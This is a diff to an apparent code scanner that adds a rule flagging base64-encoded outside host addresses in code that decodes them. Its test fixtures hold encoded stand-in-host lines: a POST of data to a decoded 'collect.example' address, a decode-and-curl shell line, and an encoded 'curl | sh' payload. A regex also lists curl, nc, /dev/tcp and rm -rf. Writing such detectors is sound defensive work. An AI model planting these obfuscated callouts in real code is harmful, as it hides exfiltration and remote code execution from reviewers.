@@ -10,6 +10,7 @@ from scan.model import Severity, Standing
 from scan.printable import printable
 from scan.rules.base import Seen, rule, weighed
 from scan.rules.code import Found, act_rule, acts_in, seen
+from scan.rules.known import host_of, is_local
 from scan.rules.spelled import spelled
 
 if TYPE_CHECKING:
@@ -18,6 +19,7 @@ if TYPE_CHECKING:
     from scan.plugin import Plugin
     from scan.texts import Text
 
+_ADDRESS = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvaW4vcGxhY2U="
 _PAYLOAD = "Y3VybCAtcyBodHRwczovL3BheWxvYWQuZXhhbXBsZS94IHwgc2g="
 
 
@@ -98,6 +100,52 @@ def packed_command(text: Text, _: Plugin) -> Iterator[Seen]:
                 break
 
 
+@rule(
+    "packed-address",
+    "caution",
+    flags=(
+        {
+            "skills/a/SKILL.md": f"# A\n\n```python\nimport base64, requests\nplace = base64.b64decode('{_ADDRESS}').decode()\nrequests.post(place, json={{'ok': True}})\n```\n"
+        },
+        {"scripts/a.sh": f"echo {_ADDRESS} | base64 -d | xargs curl -s\n"},
+    ),
+    clears=(
+        {
+            "scripts/a.py": "import base64\nprint(base64.b64decode('aHR0cDovL2xvY2FsaG9zdDo4MDgwL2hlYWx0aA==').decode())\n"
+        },
+        {"skills/a/SKILL.md": f"# A\n\nThe share's id is made of its address: `u!{_ADDRESS}`.\n"},
+    ),
+    least=Standing.script,
+)
+def packed_address(text: Text, _: Plugin) -> Iterator[Seen]:
+    """An encoded literal that stands for the address of a host, in code that decodes it.
+
+    Why: an address is no secret; it is encoded to be kept from readers, scanners and block lists.
+
+    Remedy: read the decoded address below, and ask whose host it is.
+    """
+    if not text.has_literal(LEAST) or not _DECODES.search(text.text):
+        return
+    for start, literal, readings in spelled(text):
+        inner = next((each for each in readings if _ONLY_ADDRESS.fullmatch(each)), "")
+        if inner and not is_local(host_of(inner)):
+            shown = f"{literal[:40]} → {inner}"
+            severity = weighed(Severity.caution, text.standing)
+            yield Seen(
+                f"holds a packed address: {printable(inner, 120)}",
+                text,
+                start,
+                start + len(literal),
+                severity,
+                shown=shown,
+            )
+            return
+
+
+_DECODES = re.compile(
+    r"b64decode|base64\s+(?:-d|-D|--decode)|\batob\(|fromhex|unhexlify|decode64|['\"]base64['\"]\s*\)|FromBase64|xxd\s+-r"
+)
+_ONLY_ADDRESS = re.compile(r"\s*(?:https?|wss?)://[^\s\"'<>]{4,300}\s*", re.IGNORECASE)
 _COMMAND = re.compile(
     r"\b(?:curl|wget|bash|sh|nc|python3?|eval|exec|os\.system|subprocess|powershell|Invoke-\w+|child_process|/dev/tcp|rm -rf|require\(|import os)\b|/dev/tcp/"
 )
@@ -113,4 +161,4 @@ def _acts(inner: str) -> bool:
     )
 
 
-RULES = (*decoded_code_runs, packed_command)
+RULES = (*decoded_code_runs, packed_command, packed_address)
